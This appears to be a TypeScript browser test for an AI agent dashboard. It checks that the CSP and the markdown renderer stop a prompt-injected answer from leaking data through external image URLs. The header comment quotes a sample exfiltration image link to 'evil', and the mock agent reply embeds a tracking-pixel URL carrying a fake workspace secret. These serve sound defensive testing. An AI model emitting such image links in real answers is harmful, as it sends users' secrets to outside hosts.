/**
 * The dashboard cannot be used to carry data out through an image URL. Its CSP lets images come
 * only from this origin (signed workspace files) and data: URLs; and the dashboard shows an image
 * hosted elsewhere as a link, so a prompt-injected answer like `![x](https://evil/?d=secret)` is
 * never fetched — and does not trip a CSP violation either. In Debian's Chromium: a task's answer
 * carries an external image (a local server on another origin, counting its requests) and a
 * workspace image the agent wrote; the external one renders as a link, no request reaches it, the
 * workspace one loads as an <img>, and the console stays clean.
 */
import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import type { Browser, Page } from "playwright-core";
import { createProfile, submit, waitTask } from "../helpers/agent.ts";
import { startTestApp, type TestApp } from "../helpers/app.ts";
import { launchBrowser } from "../helpers/browser.ts";
import { type MockProviderServer, startMockAnthropic } from "../helpers/mock-anthropic.ts";
import { createUser, type TestUser } from "../helpers/users.ts";

let t: TestApp;
let mock: MockProviderServer;
let user: TestUser;

beforeAll(async () => {
  t = await startTestApp();
  mock = startMockAnthropic();
  user = await createUser(t);
});
afterAll(async () => {
  await t.stop();
  await mock.stop();
});

const directives = (csp: string) => new Map(csp.split(";").map((d) => d.trim().split(/\s+/)).map(([k, ...v]) => [k!, v] as const));

describe("the header", () => {
  test.each(["/", "/app.js", "/app.css"])("%s: img-src is exactly 'self' data:", async (path) => {
    const res = await t.fetch(path);
    expect(res.status).toBe(200);
    const csp = directives(res.headers.get("content-security-policy")!);
    expect(csp.get("img-src")).toEqual(["'self'", "data:"]);
    expect(csp.get("default-src")).toEqual(["'none'"]);
    expect(csp.get("connect-src")).toEqual(["'self'"]);
    for (const [, sources] of csp) for (const src of sources) expect(["http:", "https:", "*"]).not.toContain(src);
  });
});

describe("in the browser", () => {
  let browser: Browser;
  let page: Page;
  const problems: string[] = [];
  /** Every request the external image host saw. */
  const hits: string[] = [];
  let external: ReturnType<typeof Bun.serve>;

  beforeAll(async () => {
    external = Bun.serve({
      hostname: "127.0.0.1",
      port: 0,
      fetch(req) {
        hits.push(req.url);
        return new Response(Buffer.from("R0lGODlhAQABAAAAACw=", "base64"), { headers: { "content-type": "image/gif" } });
      },
    });
    browser = await launchBrowser();
    const context = await browser.newContext();
    const [name, value] = user.cookie.split("=") as [string, string];
    await context.addCookies([{ name, value, url: t.url }]);
    page = await context.newPage();
    page.on("pageerror", (e) => problems.push(`pageerror: ${e.message}`));
    page.on("console", (m) => {
      if (m.type() === "error" || /Content Security Policy|Refused to/i.test(m.text())) problems.push(`console: ${m.text()}`);
    });
    // Every request the page makes, wherever it goes.
    page.on("request", (r) => {
      if (!r.url().startsWith(t.url) && !r.url().startsWith(t.wsUrl)) problems.push(`request elsewhere: ${r.url()}`);
    });
  });
  afterAll(async () => {
    await browser?.close();
    external?.stop(true);
  });

  test("an external image in a result is shown as a link and never fetched; a workspace image loads; no CSP violation", async () => {
    const leak = `http://127.0.0.1:${external.port}/pixel.gif?d=SECRET-FROM-THE-WORKSPACE`;
    const svg = '<svg xmlns="http://www.w3.org/2000/svg" width="40" height="20"><rect width="40" height="20" fill="teal"/></svg>';
    const profileId = await createProfile(t, user, { mock, tools: ["Write"] });
    mock.reset();
    mock.enqueue(
      { toolCalls: [{ name: "Write", input: { file_path: "/workspace/out/chart.svg", content: svg } }] },
      { text: `Here is the chart: ![chart](out/chart.svg)\n\nAnd a tracking pixel: ![pixel](${leak})` },
    );
    const { task_id, session_id } = await submit(t, user, { profile_id: profileId, prompt: "Chart it" });
    const task = await waitTask(t, user, task_id);
    expect(task.status).toBe("completed");
    expect(task.result_text).toContain(`![pixel](${leak})`);

    await page.goto(t.url);
    await page.waitForSelector(`#sessions li`);
    await page.click(`#sessions li:has-text("Chart it")`);
    const answer = await page.waitForSelector(".msg.agent:not(.streaming) .meta", { timeout: 30_000 });
    expect(answer).toBeTruthy();

    // The external image is a link to it, not an <img>.
    const link = page.locator(`.msg.agent a[href="${leak}"]`);
    expect(await link.count()).toBe(1);
    expect(await link.textContent()).toContain("pixel");
    expect(await page.locator(`img[src^="http://127.0.0.1:${external.port}"]`).count()).toBe(0);

    // The workspace image, signed and same-origin, is an <img> that loaded.
    const img = page.locator(`.msg.agent img[alt="chart"]`);
    expect(await img.count()).toBe(1);
    expect(await img.getAttribute("src")).toStartWith(`${t.url}/files/`);
    await page.waitForFunction(() => {
      const el = document.querySelector<HTMLImageElement>('.msg.agent img[alt="chart"]');
      return !!el && el.complete && el.naturalWidth > 0;
    });

    await Bun.sleep(300);
    expect(hits).toEqual([]);
    expect(problems).toEqual([]);
    expect(session_id).toMatch(/^sess_/);
  }, 120_000);
});
